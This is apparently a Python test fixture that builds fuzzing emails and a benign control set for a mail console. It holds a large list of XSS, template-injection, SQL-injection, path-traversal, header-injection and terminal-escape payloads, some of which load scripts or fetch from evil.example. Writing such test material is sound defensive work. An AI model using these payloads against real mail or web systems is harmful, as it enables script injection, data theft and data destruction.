"""Mail of strangers who try everything, and mail of the same shape that is harmless.

Here: what they write (`PIECES`, `BODIES`), and `mail_of`, which puts some of it wherever a stranger can write. Not
here: reading it, looking at pages. Invariant: the same dice make the same mail; what is harmless has no sign that
means anything in HTML.
"""

from __future__ import annotations

import random
import re
from base64 import b64encode
from urllib.parse import quote

from console.offices import EVIL_BODY, HOSTILE

PIECES: tuple[str, ...] = (
    *HOSTILE, "<", ">", '"', "'", "`", "&", "&#60;script&#62;", "</textarea><script>hit(1)</script>", "</pre>",
    "</bdi>", "</style>", "<svg/onload=hit(2)>", "<a href=//evil.example>x</a>", "<base href=//evil.example>",
    "data:text/html,x", "vbscript:x", '<math><mi//xlink:href="data:x,<script>">', "<![CDATA[", "<?xml ?>", "--!>",
    "\u2028", "\x85", "\x0c", "\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", "%(name)s", "%s%n", "{name}",
    "{{ csrf }}", "{% trans %}", "\\", "../..", "//evil.example/x", "/\\evil.example", "http://evil.example/",
    "\u0430\u0440\u0440\u04cf\u0435", "\U000e0041", "\ud83d", "\u0301" * 40, "=1+1", "@SUM(A1)", "#53",
    "m-ffffffffffff", '[[rule]]\nwhen="x"', "'''", '"""', "\t", "x" * 200, "</title><script>hit(3)</script>",
    "</option></select><script>hit(4)</script>", "</summary></details><script>hit(5)</script>",
    "</code></pre></td></tr></table><script src=http://evil.example/s.js></script>",
    "</main></body></html><script>hit(6)</script>", '" autofocus onfocus=hit(7) x="',
    "' style='background:url(http://evil.example/c)", "x onpointerenter=hit(8) tabindex=0",
    '" formaction="javascript:hit(9)" type=submit x="',
    '"><input type=image src=http://evil.example/i formaction=//evil.example>',
    "<iframe srcdoc='<script>parent.hit(10)</script>'></iframe>", "<details open ontoggle=hit(11)>",
    "<video><source onerror=hit(12)></video>", "<body onload=hit(13)>",
    "<style>*{background:url(http://evil.example/d)}</style>", "<link rel=stylesheet href=http://evil.example/e.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<form action=http://evil.example/><button>go",
    "<plaintext>", "<xmp>", "<template><script>hit(14)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit(15)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit(16)&gt;'>",
    "<svg><style><img src=x onerror=hit(17)></style></svg>", "<svg><animate onbegin=hit(18) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>hit(19)</script></svg>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:hit(20)>", "<object data=http://evil.example/o>",
    "<embed src=http://evil.example/o>", "<img srcset='http://evil.example/f 1x'>",
    "<audio src=http://evil.example/g autoplay>", "<a ping=http://evil.example/p href=#>x</a>",
    "<link rel=prefetch href=//evil.example/h>", "<link rel=dns-prefetch href=//evil.example>",
    "<script type=module>import 'http://evil.example/m.js'</script>", "<script>fetch('//evil.example')</script>",
    "JaVaScRiPt:hit(21)", " javascript:hit(22)", "java\tscript:hit(23)", "&#106;avascript:hit(24)",
    "javascript&colon;hit(25)", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=", "expression(hit(26))",
    "</style><img src=x onerror=hit(27)>", "@import url(http://evil.example/j.css);",
    "-moz-binding:url(//evil.example)", "\u202a\u202b\u202d\u202e", "\u2066\u2067\u2068", "\u200e\u200f\u061c",
    "\u202etxt.exe", "\u2069\u202c", "\u00ad", "\u2060", "\ufff9\ufffa\ufffb", "\U000e0001\U000e0020", "\ufffe\uffff",
    "\udc80\udfff", "\x00", "\x00<script>hit(28)</script>", "<scr\x00ipt>hit(29)</script>", "\x08\x08\x08", "\x7f",
    "\x9b31m", "\x1b[31m", "\x1bP+q\x1b\\", "\x1b]0;x\x07", "\x1b[8m", "\u0a0b" * 50, "\ufdfd" * 30, "a" * 9000,
    "<" * 500, "&amp;" * 300, "\u0e49" * 200, "z\u0336\u0345\u0322" * 60, "\U0001f469\u200d" * 40,
    "{{ self.__init__.__globals__ }}", "{{ config }}", "{%- raw -%}", "{# x", "${{7*7}}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__}", "%(csrf)s", "%n", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3Ehit(30)%3C/script%3E",
    "+ADw-script+AD4-hit(31)+ADw-/script+AD4-", "=?utf-8?q?=3Cscript=3Ehit(32)=3C/script=3E?=",
    "=?utf-8?b?PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=?=", "=?utf-7?q?+ADw-b+AD4-?=", "=?x?x?x?=", "=?iso-2022-jp?b?GyhC?=",
    "=?utf-8?q?=00=01=1b[2J?=", "=?utf-8?b?7aCB?=", "a@b@c", "<a@b>,<c@d>", '"x" <y@z>', "(comment (nested))",
    "group: a@b, c@d;", "@evil.example", "xn--80ak6aa92e.example", "[127.0.0.1]", "'; DROP TABLE inbound; --",
    "' OR '1'='1", "from:x OR outcome:held", "-outcome:held", '"', "outcome:", "q=&before=1", "?did=x", "#main",
    "../../../etc/passwd", "C:\\con\\nul", "file:///etc/passwd", "\\\\evil.example\\share", "toString", "__proto__",
    "constructor", "csrf", "reason", "main", "q", "words", "\r\nX: y", "\nBcc: x@evil.example",
    "\r\n\r\n<script>hit(33)</script>", "\n.\n", "--zz", "--zz--", "begin 644 x", "From evil", "[#1]",
    "[#99999999999999999999]", "99999999999999999999", "-1", "1e309", "NaN", "0x1", "٣",
)  # fmt: skip
"""What somebody puts where a page shows it. Scripts call `hit` or `alert`; other addresses are at evil.example."""

BODIES = (
    EVIL_BODY.replace("{{", "{").replace("}}", "}"),
    "<p>{}</p><img src=http://evil.example/k><img src=//evil.example/l>"
    "<img src=cid:x><img src='data:image/svg+xml,<svg onload=hit(40)>'>",
    "<table background=http://evil.example/m><tr><td style='background-image:url(http://evil.example/n)' "
    "onmouseover=hit(41)>{}</table>",
    "<a href='javascript:hit(42)'>{}</a><a href='data:text/html,<script>hit(43)</script>'>x</a><a target=_top href=http://evil.example/>y</a>",
    "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:hit(44)'>"
    "<text>{}</text></a><image href=http://evil.example/q /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit(45)&gt;'>{}",
    "<form action=http://evil.example/><input autofocus onfocus=hit(46)>"
    "<button formaction=javascript:hit(47)>{}</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>"
    "<meta http-equiv=Content-Security-Policy content=''>{}",
    "<style>@import 'http://evil.example/r.css';@font-face{font-family:x;src:url(http://evil.example/s)}body{font-family:x}</style>{}",
    "<link rel=stylesheet href=http://evil.example/t.css><link rel=preload as=image "
    "href=http://evil.example/u><link rel=icon href=http://evil.example/v>{}",
    "<iframe src=http://evil.example/></iframe><iframe srcdoc='<script>top.hit(48)</script>"
    "'></iframe><frameset><frame src=//evil.example></frameset>{}",
    "<video poster=http://evil.example/w src=http://evil.example/x autoplay>"
    "</video><audio src=http://evil.example/y autoplay></audio>{}",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>{}</div>",
    "<div style='width:expression(hit(49))'>{}</div>",
    "<noscript><style></noscript><img src=x onerror=hit(50)>{}</style></noscript>",
    "<template><img src=http://evil.example/z></template>{}",
    "<!--[if gte IE 4]><script>hit(51)</script><![endif]-->{}",
    "<p id=main name=csrf>{}<p id=q><a name=getElementById>", "<" + "div>" + "<div>" * 400 + "{}", "<b>" * 200 + "{}",
    "<select><option>{}", "<textarea>{}", "<title>{}", "<xmp>{}", "<plaintext>{}", "{}",
    "<base href=http://evil.example/><img src=/a><a href=/b>{}</a>",
    "<object data='data:text/html,<script>hit(52)</script>'>{}</object>",
    "<input type=image src=http://evil.example/1 onerror=hit(53)>{}",
    "<img lowsrc=http://evil.example/2 dynsrc=http://evil.example/3>{}",
)  # fmt: skip
"""What somebody writes as HTML; a piece stands in the braces."""

HARMLESS = (
    "printer", "invoice", "Hello", "a question", "order 4711234", "paper jam", "thanks", "report.pdf", "Jane Doe",
    "tray 2", "Monday", "meeting", "error 5", "see below", "regards", "x" * 200, "12", "two words", "a" * 3000,
)  # fmt: skip

HARMLESS_BODIES = ("<p>{}</p>", "<p>Hello</p><p>{}</p>", "<ul><li>{}</li></ul>", "{}")

KNOWN = ("jane@mail.bigcorp.example", "anna@example.com", "bob@example.com", "it@servicenow.example")

KINDS = (
    "text/plain", "text/html", "image/svg+xml", "image/png", "image/gif", "application/pdf", "application/xhtml+xml",
    "message/rfc822", "text/calendar", "application/javascript", "text/xml", "application/octet-stream",
)  # fmt: skip


class _Writer:
    """Writes one mail."""

    def __init__(self, dice: random.Random, number: int, harmless: bool) -> None:
        self.dice, self.number, self.harmless = dice, number, harmless
        self.pieces: tuple[str, ...] = HARMLESS if harmless else PIECES
        self.bodies: tuple[str, ...] = HARMLESS_BODIES if harmless else BODIES

    def some(self, most: int = 3) -> str:
        joint = " " if self.harmless else ""
        return joint.join(self.dice.choices(self.pieces, k=self.dice.randint(1, most)))

    def field(self, most: int = 3) -> str:
        """A text as a header field has it: as it is, or in one of the ways in which words are encoded."""
        text = self.some(most)
        raw = text.encode("utf-8", "surrogatepass")[: self.dice.choice((240, 240, 4000))]
        way = self.dice.random()
        if way < 0.3:
            return "=?utf-8?q?" + "".join(f"={each:02X}" for each in raw) + "?="
        if way < 0.45:
            return f"=?utf-8?b?{b64encode(raw).decode()}?="
        if way < 0.5 and not self.harmless:
            return (
                f"=?{self.dice.choice(('utf-7', 'utf-16', 'x', 'iso-2022-jp', 'koi8-r'))}?b?{b64encode(raw).decode()}?="
            )
        return self.flat(text)

    def flat(self, text: str) -> str:
        return re.sub(r"[\r\n\x00]" if self.dice.random() < 0.9 else r"[\r\n]", " ", text)

    def named(self, most: int = 2) -> str:
        """The parameters of a file name: RFC 2231, in parts, or as it is."""
        text = self.some(most)
        coded = quote(text[:120].encode("utf-8", "surrogatepass"))
        way = self.dice.random()
        if way < 0.4:
            return f"name*=utf-8''{coded}"
        if way < 0.6:
            return f"name*0*=utf-8''{coded[:60]}; name*1*={coded[60:]}"
        if way < 0.8:
            return f'name="{self.field(most)}"'
        return 'name="{}"'.format(re.sub(r'["\\]', "", self.flat(text)))

    def sender(self) -> tuple[str, str]:
        """Who wrote, as an address and as a field."""
        way = self.dice.random()
        local = re.sub(r"[\s<>,;:\"@()\[\]\\]", "", self.some(1))[:40] or "evil"
        if way < 0.4:
            who = self.dice.choice(KNOWN)
        elif way < 0.7:
            who = f"evil{self.number % 500}@attacker.example"
        elif way < 0.9:
            who = f"{local}@attacker.example"
        else:
            who = f'"{local}"@{self.dice.choice(("attacker", "xn--80ak6aa92e", "a.b.c.d"))}.example'
        return who, f"{self.field()} <{who}>"

    def part(self) -> list[str]:
        """A file."""
        kind = self.dice.choice(KINDS) if self.dice.random() < 0.7 else f"{self.flat(self.some(1))[:60]}/x"
        content = self.dice.choice(self.bodies).replace("{}", self.some())
        if self.dice.random() < 0.3:
            content = "GIF89a" + content
        disposition = self.dice.choice(("attachment", "inline"))
        named = self.named().replace("name", "filename", 1)
        return [f"Content-Type: {kind}; {self.named()}", f"Content-Disposition: {disposition}; {named}", "", content]

    def lines(self) -> list[str]:
        who, shown = self.sender()
        host, to = who.rpartition("@")[2], self.dice.choice(("help", "help", "help", "support", "help+billing"))
        name = re.sub(r"[^!-9;-~]", "", self.some(1))[:40] or "X-Evil"
        earlier = self.dice.randrange(self.number + 1)
        proof = self.dice.choice(("pass", "pass", "fail"))
        lines = [
            f"Authentication-Results: mx.example.com; dmarc={proof} header.from={host}",
            f"From: {shown}", f"To: {self.field()} <{to}@example.com>", f"Subject: {self.field(4)}",
            f"Message-ID: <evil.{self.number}@attacker.example>", f"{name}: {self.flat(self.some())}",
            f"X-Evil: {self.field()}", f"Reply-To: {self.field()} <r@evil.example>",
            f"Cc: {self.field()} <c{self.number}@evil.example>",
        ]  # fmt: skip
        rare = (
            f"List-Id: {self.flat(self.some())}",
            f"List-Unsubscribe: <{self.flat(self.some(2))}>, <http://evil.example/?{self.number}>",
            f"In-Reply-To: <evil.{earlier}@attacker.example>",
            f"References: <evil.{earlier}@attacker.example> <{self.flat(self.some(1))}>",
            f"Sender: {self.field()} <s@evil.example>", f"Date: {self.flat(self.some(1))}",
            f"Organization: {self.field()}",
            f"Auto-Submitted: {self.flat(self.some(1))}", f"Precedence: {self.flat(self.some(1))}",
            f"X-Mailer: {self.field()}",
            f"Received: from {self.flat(self.some(1))} by mx.example.com; {self.flat(self.some(1))}",
        )  # fmt: skip
        chance = (0.1, 0.2, 0.25, 0.2, 0.2, 0.1, 0.3, 0.03, 0.03, 0.3, 0.2)
        return lines + [each for each, often in zip(rare, chance, strict=True) if self.dice.random() < often]


def mail_of(dice: random.Random, number: int, *, harmless: bool = False) -> bytes:
    """A mail with pieces wherever a stranger can write; written by hand, for no library writes such."""
    writer = _Writer(dice, number, harmless)
    lines = [*writer.lines(), "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="zz"', ""]
    charset = "utf-8" if harmless else dice.choice(("utf-8", "utf-8", "utf-8", "utf-7", "iso-2022-jp", "x"))
    lines += ["--zz", f"Content-Type: text/plain; charset={charset}", "", writer.some(8)]
    if dice.random() < 0.8:
        page = dice.choice(writer.bodies).replace("{}", writer.some(4))
        lines += ["--zz", f"Content-Type: text/html; charset={charset}", "", page]
    for _ in range(dice.choice((0, 0, 1, 1, 2, 3))):
        lines += ["--zz", *writer.part()]
    return "\r\n".join([*lines, "--zz--", ""]).encode("utf-8", "surrogatepass")
